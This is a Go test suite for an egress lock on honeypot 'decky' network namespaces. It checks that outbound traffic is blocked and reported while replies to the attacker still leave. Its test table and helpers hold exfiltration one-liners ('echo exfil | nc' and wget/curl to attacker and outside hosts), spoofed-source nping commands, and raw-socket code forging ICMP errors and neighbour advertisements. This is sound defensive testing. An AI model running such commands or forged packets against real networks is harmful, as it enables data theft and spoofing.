package egress_test

import (
	"encoding/binary"
	"errors"
	"net"
	"net/netip"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/decnet/decnet/fleet/internal/egress"
	"github.com/decnet/decnet/internal/enginetest"
)

// tries are the ways out that are tried as root in the namespace of a decky.
var tries = []struct{ command, protocol, addr, port string }{
	{"timeout 2 busybox wget -O - http://" + attacker4 + ":8000/", "tcp", attacker4, "8000"},
	{"curl -s -m 1 http://" + outside4 + "/", "tcp", outside4, "80"},
	{"curl -s -m 1 http://[" + outside6 + "]/", "tcp", outside6, "80"},
	{"nc -w 1 -p 7777 -s " + addr4 + " " + attacker4 + " 8001", "tcp", attacker4, "8001"},
	{"nc -6 -w 1 " + attacker6 + " 8001", "tcp", attacker6, "8001"},
	{"echo exfil | nc -u -w 1 " + attacker4 + " 5353", "udp", attacker4, "5353"},
	{"echo exfil | nc -6 -u -w 1 " + attacker6 + " 5353", "udp", attacker6, "5353"},
	{"timeout 2 busybox nslookup exfil.example " + outside4, "udp", outside4, "53"},
	{"timeout 2 busybox nslookup exfil.example 127.0.0.11", "udp", "127.0.0.11", "53"},
	{"echo exfil | nc -6 -u -w 1 " + outside6 + " 53", "udp", outside6, "53"},
	{"busybox ping -c 1 -W 1 " + attacker4, "icmp", attacker4, ""},
	{"busybox ping -c 1 -W 1 " + attacker6, "icmpv6", attacker6, ""},
	// By raw sockets, with the source of another machine, and with a protocol of no name.
	{"nping --send-ip --udp -p 9 -S 10.99.0.12 -c 1 " + outside4, "udp", outside4, "9"},
	{"nping --send-ip --tcp --flags ack,psh -p 9 -c 1 " + outside4, "tcp", outside4, "9"},
	{"busybox ping -c 1 -W 1 -I eth0 ff02::1", "icmpv6", "ff02::1", ""},
	{"echo exfil | nc -u -w 1 -b 10.99.0.255 9", "udp", "10.99.0.255", "9"},
	{"echo exfil | nc -u -w 1 224.0.0.251 5353", "udp", "224.0.0.251", "5353"},
}

// found are what a decky may send beside answers to its attacker.
var found = []string{
	"ICMP6, neighbor solicitation", "ICMP6, neighbor advertisement", "ICMP6, router solicitation", "multicast listener report",
}

// TestW17_AnswersLeaveAndNothingElse tries all ways out as root inside while the bridge is
// watched, after one of them has been seen to work without the lock.
func TestW17_AnswersLeaveAndNothingElse(t *testing.T) {
	lan := newDecky(t)
	serve(t, deckyNS, served)
	packets := capture(t, lan)
	inside(t, "echo open | nc -u -w 1 "+outside4+" 53; echo open | nc -6 -u -w 1 "+outside6+" 53")
	if out := strings.Join(packets(), "\n"); !strings.Contains(out, "> "+outside4+".53") || !strings.Contains(out, "> "+outside6+".53") {
		t.Fatalf("the capture does not show what leaves without the lock:\n%s", out)
	}

	packets = capture(t, lan)
	var seen recorder
	watch := lock(t, &seen)
	for _, try := range tries {
		inside(t, try.command)
		waitFor(t, "event of "+try.command, func() bool { return len(seen.of(try.protocol, try.addr, try.port)) > 0 })
	}
	for _, e := range seen.of("tcp", attacker4, "8001") {
		if e.Value("local_port") != "7777" {
			t.Errorf("local port of %+v", e)
		}
	}
	if got := greeting(t, deckyNS, "127.0.0.1:"+served); got != "hello" {
		t.Errorf("on its own loopback interface the decky says %q", got)
	}

	lan.Attack(t, "ip", "-6", "neigh", "flush", "dev", "att0")
	for _, addr := range []string{addr4, "[" + addr6 + "]"} {
		if got := greeting(t, attackerNS, addr+":"+served); got != "hello" {
			t.Errorf("%s says %q to the attacker", addr, got)
		}
		if got := greeting(t, attackerNS, addr+":"+unserved); got != "" {
			t.Errorf("a closed port of %s says %q", addr, got)
		}
	}
	for _, args := range [][]string{
		{"busybox", "ping", "-c", "1", addr4},
		{"busybox", "ping", "-c", "1", addr6},
		{"sh", "-c", "echo | nc -u -w 1 " + addr4 + " " + unserved},
		{"sh", "-c", "echo | nc -6 -u -w 1 " + addr6 + " " + unserved},
		{"nping", "--tcp", "--flags", "ack", "-p", unserved, "-c", "1", addr4}, // belongs to no connection
		{"nping", "-6", "--tcp", "--flags", "ack", "-p", unserved, "-c", "1", addr6},
	} {
		lan.Attack(t, args[0], args[1:]...)
	}
	lines := packets()
	for what, has := range map[string]string{
		"connection by IPv4":      addr4 + "." + served + " > " + attacker4 + ".",
		"connection by IPv6":      addr6 + "." + served + " > " + attacker6 + ".",
		"reset by IPv4":           addr4 + "." + unserved + " > " + attacker4 + ".",
		"reset by IPv6":           addr6 + "." + unserved + " > " + attacker6 + ".",
		"echo by IPv4":            "ICMP echo reply",
		"echo by IPv6":            "ICMP6, echo reply",
		"ICMP error by IPv4":      "ICMP " + addr4 + " udp port " + unserved + " unreachable",
		"ICMP error by IPv6":      "ICMP6, destination unreachable, unreachable port, " + addr6 + " udp port " + unserved,
		"neighbour advertisement": "ICMP6, neighbor advertisement",
	} {
		if !slices.ContainsFunc(lines, func(l string) bool { return strings.Contains(l, has) }) {
			t.Errorf("the decky sends no %s", what)
		}
	}
	for _, l := range lines {
		_, to, _ := strings.Cut(l, " > ")
		answer := strings.HasPrefix(to, attacker4) || strings.HasPrefix(to, attacker6)
		for _, tried := range []string{".8000:", ".8001:", ".5353:", "echo request"} {
			answer = answer && !strings.Contains(to, tried)
		}
		if !answer && !slices.ContainsFunc(found, func(f string) bool { return strings.Contains(to, f) }) {
			t.Errorf("this left: %s", l)
		}
	}

	// The lock stays when nobody watches, and another one takes its place.
	watch.Close()
	packets = capture(t, lan)
	inside(t, "echo exfil | nc -u -w 1 "+outside4+" 53")
	lock(t, &seen)
	inside(t, "echo exfil | nc -u -w 1 "+outside4+" 54")
	waitFor(t, "event of the second lock", func() bool { return len(seen.of("udp", outside4, "54")) == 1 })
	greeting(t, attackerNS, addr4+":"+served)
	if out := strings.Join(packets(), "\n"); strings.Contains(out, outside4) || !strings.Contains(out, "."+served+" > "+attacker4) {
		t.Errorf("after the first lock:\n%s", out)
	}
}

// TestWhatIsDroppedSeemsSent looks at what programs inside are told: nothing, as by a firewall
// on the way, but at once that the resolver of an engine is not there.
func TestWhatIsDroppedSeemsSent(t *testing.T) {
	newDecky(t)
	var seen recorder
	lock(t, &seen)
	for addr, want := range map[string]error{
		outside4 + ":53": nil, "[" + outside6 + "]:53": nil, attacker4 + ":5353": nil, "[" + attacker6 + "]:5353": nil, "127.0.0.11:53": unix.EPERM,
	} {
		var err error
		within(t, deckyNS, func() {
			var c net.Conn
			if c, err = net.Dial("udp", addr); err == nil {
				_, err = c.Write([]byte("exfil"))
				c.Close()
			}
		})
		if !errors.Is(err, want) {
			t.Errorf("to %s: %v, want %v", addr, err, want)
		}
		host, port, _ := net.SplitHostPort(addr)
		waitFor(t, "event of "+addr, func() bool { return len(seen.of("udp", host, port)) == 1 })
	}
	for _, addr := range []string{outside4, outside6} {
		out, err := exec.Command("nsenter", "--net="+deckyNS, "ping", "-n", "-c", "1", "-W", "1", addr).CombinedOutput()
		if err == nil || !strings.Contains(string(out), "1 packets transmitted, 0 received, 100% packet loss") || strings.Contains(string(out), "sendmsg") {
			t.Errorf("ping says, %v:\n%s", err, out)
		}
	}
}

// TestOfADeckyWithoutIPv6NothingOfThatLeaves gives a decky that is locked as one without IPv6
// some nevertheless, and tries to reach out by it and to be found.
func TestOfADeckyWithoutIPv6NothingOfThatLeaves(t *testing.T) {
	lan := newDecky(t)
	serve(t, deckyNS, served)
	var seen recorder
	lockAs(t, &seen, egress.Options{Decky: "web", IPv4Only: true})
	packets := capture(t, lan)
	inside(t, "busybox ping -c 1 -W 1 "+attacker6)
	waitFor(t, "event of a ping", func() bool { return len(seen.of("icmpv6", attacker6, "")) > 0 })
	lan.Attack(t, "ip", "-6", "neigh", "flush", "dev", "att0")
	lan.Attack(t, "busybox", "ping", "-c", "1", "-W", "1", addr6)
	if got := greeting(t, attackerNS, addr4+":"+served); got != "hello" {
		t.Errorf("by IPv4 it says %q", got)
	}
	for _, l := range packets() {
		if strings.HasPrefix(l, "IP6 ") {
			t.Errorf("this left: %s", l)
		}
	}
}

// TestClosedWatchesAreSilent closes one of two watches of a reporter, and then the reporter.
func TestClosedWatchesAreSilent(t *testing.T) {
	newDecky(t)
	var seen recorder
	r, err := egress.NewReporter(&seen, time.Now)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	var mine, theirs *egress.Watch
	within(t, deckyNS, func() { mine, err = r.Lock(egress.Options{Decky: "web"}) })
	if err != nil {
		t.Fatal(err)
	}
	within(t, attackerNS, func() { theirs, err = r.Lock(egress.Options{Decky: "other"}) })
	if err != nil {
		t.Fatal(err)
	}
	theirs.Close()
	theirs.Close() // which does nothing
	within(t, attackerNS, func() { _ = exec.Command("sh", "-c", "echo exfil | nc -u -w 1 "+addr4+" 9").Run() })
	inside(t, "echo exfil | nc -u -w 1 "+outside4+" 9")
	waitFor(t, "event of the watch that is open", func() bool { return len(seen.of("udp", outside4, "9")) == 1 })
	r.Close()
	mine.Close() // which does nothing either
	inside(t, "echo exfil | nc -u -w 1 "+outside4+" 10")
	if all := seen.All(); len(all) != 1 {
		t.Errorf("%d events: %+v", len(all), all)
	}
}

// TestExitsAreOpenAndNothingElse reaches what the exits of a decky name, and what differs from
// them in one thing.
func TestExitsAreOpenAndNothingElse(t *testing.T) {
	newDecky(t)
	serve(t, attackerNS, "9090")
	serve(t, attackerNS, "9091")
	var seen recorder
	lock(t, &seen, "tcp:"+attacker4+":9090", "tcp:["+attacker6+"]:9091", "dns:"+attacker4)

	resolver, err := listenUDP(t, attackerNS, attacker4+":53")
	if err != nil {
		t.Fatal(err)
	}
	defer resolver.Close()
	for addr, want := range map[string]string{
		attacker4 + ":9090":          "hello",
		"[" + attacker6 + "]:9091":   "hello",
		attacker4 + ":9091":          "",
		"[" + attacker6 + "]:9090":   "",
		enginetest.Gateway + ":9090": "",
		"[" + gateway6 + "]:9091":    "",
	} {
		if want == "" {
			host, port, err := net.SplitHostPort(addr)
			if err != nil {
				t.Fatal(err)
			}
			inside(t, "nc -w 1 "+host+" "+port)
			waitFor(t, "event of "+addr, func() bool { return len(seen.of("tcp", host, port)) > 0 })
			continue
		}
		if got := greeting(t, deckyNS, addr); got != want {
			t.Errorf("%s says %q, want %q", addr, got, want)
		}
	}
	inside(t, "echo question | nc -u -w 1 "+attacker4+" 53")
	question := make([]byte, 64)
	if err := resolver.SetReadDeadline(time.Now().Add(longest)); err != nil {
		t.Fatal(err)
	}
	n, from, err := resolver.ReadFromUDPAddrPort(question)
	if err != nil || string(question[:n]) != "question\n" || from.Addr().Unmap() != netip.MustParseAddr(addr4) {
		t.Errorf("the resolver is asked %q by %s, %v", question[:n], from, err)
	}
	inside(t, "echo question | nc -u -w 1 "+attacker4+" 54")
	waitFor(t, "event of UDP", func() bool { return len(seen.of("udp", attacker4, "54")) > 0 })
	if n := len(seen.of("udp", attacker4, "53")); n > 0 {
		t.Errorf("%d events of what was let out", n)
	}
}

// TestICMPErrorsGoToPeersAlone sends forged errors from inside by a raw socket, of which
// those that no peer has given reason for do not leave.
func TestICMPErrorsGoToPeersAlone(t *testing.T) {
	lan := newDecky(t)
	serve(t, deckyNS, served)
	var seen recorder
	lock(t, &seen)
	packets := capture(t, lan)

	var peer net.Conn
	var err error
	within(t, attackerNS, func() { peer, err = net.DialTimeout("tcp", addr4+":"+served, longest) })
	if err != nil {
		t.Fatal(err)
	}
	defer peer.Close()
	port := uint16(peer.LocalAddr().(*net.TCPAddr).Port)
	// What the peer sent, and what it might have sent to another port.
	known := segment(attacker4, addr4, port, 8080)
	unknown := segment(attacker4, addr4, port, 8081)
	for _, forged := range []struct {
		to    string
		about []byte
	}{{outside4, known}, {enginetest.Gateway, known}, {attacker4, unknown}} {
		within(t, deckyNS, func() { err = sendUnreachable(forged.to, forged.about) })
		if err != nil {
			t.Fatal(err)
		}
		waitFor(t, "event of an ICMP error to "+forged.to, func() bool { return len(seen.of("icmp", forged.to, "")) > 0 })
	}
	lan.Attack(t, "nping", "--udp", "-p", unserved, "-c", "1", addr4)
	out := strings.Join(packets(), "\n")
	if want := "ICMP " + addr4 + " udp port " + unserved + " unreachable"; strings.Count(out, "unreachable") != 1 || !strings.Contains(out, want) {
		t.Errorf("not only %q left:\n%s", want, out)
	}
}

// TestNothingIsForwarded has the attacker use the decky as a router, which it is without the
// lock: kernels hand the setting of the machine down to its namespaces.
func TestNothingIsForwarded(t *testing.T) {
	lan := newDecky(t)
	run(t, "ip netns exec decky sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1")
	run(t, "ip -n attacker route add "+outside4+"/32 via "+addr4)
	run(t, "ip -n attacker -6 route add "+outside6+"/128 via "+addr6)
	through := func() int {
		packets := capture(t, lan)
		for _, args := range []string{"echo through | nc -u -w 1 " + outside4 + " 9", "echo through | nc -6 -u -w 1 " + outside6 + " 9"} {
			lan.Attack(t, "sh", "-c", args)
		}
		out := strings.Join(packets(), "\n")
		return strings.Count(out, "> "+outside4+".9: ") + strings.Count(out, "> "+outside6+".9: ")
	}
	waitFor(t, "packet that is forwarded by each family without the lock", func() bool { return through() == 2 })
	var seen recorder
	watch := lock(t, &seen)
	defer watch.Close()
	if n := through(); n > 0 {
		t.Errorf("%d packets went through the decky", n)
	}
}

// TestNeighbourDiscoveryStaysOnTheLink sends messages of neighbour discovery from inside that
// would leave the LAN, which those that the kernel sends never do.
func TestNeighbourDiscoveryStaysOnTheLink(t *testing.T) {
	lan := newDecky(t)
	var seen recorder
	watch := lock(t, &seen)
	defer watch.Close()
	packets := capture(t, lan)
	var err error
	within(t, deckyNS, func() { err = sendAdvertisement(outside6) })
	if err != nil {
		t.Fatal(err)
	}
	waitFor(t, "event of an advertisement to "+outside6, func() bool { return len(seen.of("icmpv6", outside6, "")) > 0 })
	if out := strings.Join(packets(), "\n"); strings.Contains(out, outside6) {
		t.Errorf("this left:\n%s", out)
	}
}

// TestEventsAreLimited floods from inside by both families: few events come, and later ones
// still do.
func TestEventsAreLimited(t *testing.T) {
	newDecky(t)
	var seen recorder
	lock(t, &seen)
	began := time.Now()
	inside(t, "nping --send-ip --udp -N -c 1000 --rate 2000 -p 9 "+outside4)
	waitFor(t, "event after the flood", func() bool {
		inside(t, "echo last | nc -u -w 1 "+outside4+" 10")
		return len(seen.of("udp", outside4, "10")) > 0
	})
	limit := 20 + 10*(int(time.Since(began)/time.Second)+1)
	if n := len(seen.of("udp", outside4, "9")); n < 20 || n > limit {
		t.Errorf("%d events, want at least 20 and at most %d", n, limit)
	}
}

func listenUDP(t *testing.T, namespace, addr string) (c *net.UDPConn, err error) {
	t.Helper()
	within(t, namespace, func() { c, err = net.ListenUDP("udp", net.UDPAddrFromAddrPort(netip.MustParseAddrPort(addr))) })
	return c, err
}

// segment makes the start of a TCP segment in an IPv4 packet.
func segment(from, to string, fromPort, toPort uint16) []byte {
	p := []byte{0x45, 0, 0, 40, 0, 1, 0x40, 0, 64, unix.IPPROTO_TCP, 0, 0}
	p = append(p, netip.MustParseAddr(from).AsSlice()...)
	p = append(p, netip.MustParseAddr(to).AsSlice()...)
	binary.BigEndian.PutUint16(p[10:], checksum(p))
	p = binary.BigEndian.AppendUint16(p, fromPort)
	p = binary.BigEndian.AppendUint16(p, toPort)
	return append(p, make([]byte, 16)...)
}

// sendUnreachable sends an ICMP error about a packet (RFC 792).
func sendUnreachable(to string, about []byte) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	message := append([]byte{3, 3, 0, 0, 0, 0, 0, 0}, about...)
	binary.BigEndian.PutUint16(message[2:], checksum(message))
	return unix.Sendto(fd, message, 0, &unix.SockaddrInet4{Addr: netip.MustParseAddr(to).As4()})
}

// sendAdvertisement sends a neighbour advertisement (RFC 4861) with data behind it, as any
// packet with the usual hop limit.
func sendAdvertisement(to string) error {
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMPV6)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	message := append([]byte{136, 0, 0, 0, 0, 0, 0, 0}, netip.MustParseAddr(addr6).AsSlice()...)
	return unix.Sendto(fd, append(message, "exfil..."...), 0, &unix.SockaddrInet6{Addr: netip.MustParseAddr(to).As16()})
}

// checksum is that of RFC 1071, of an even number of bytes.
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
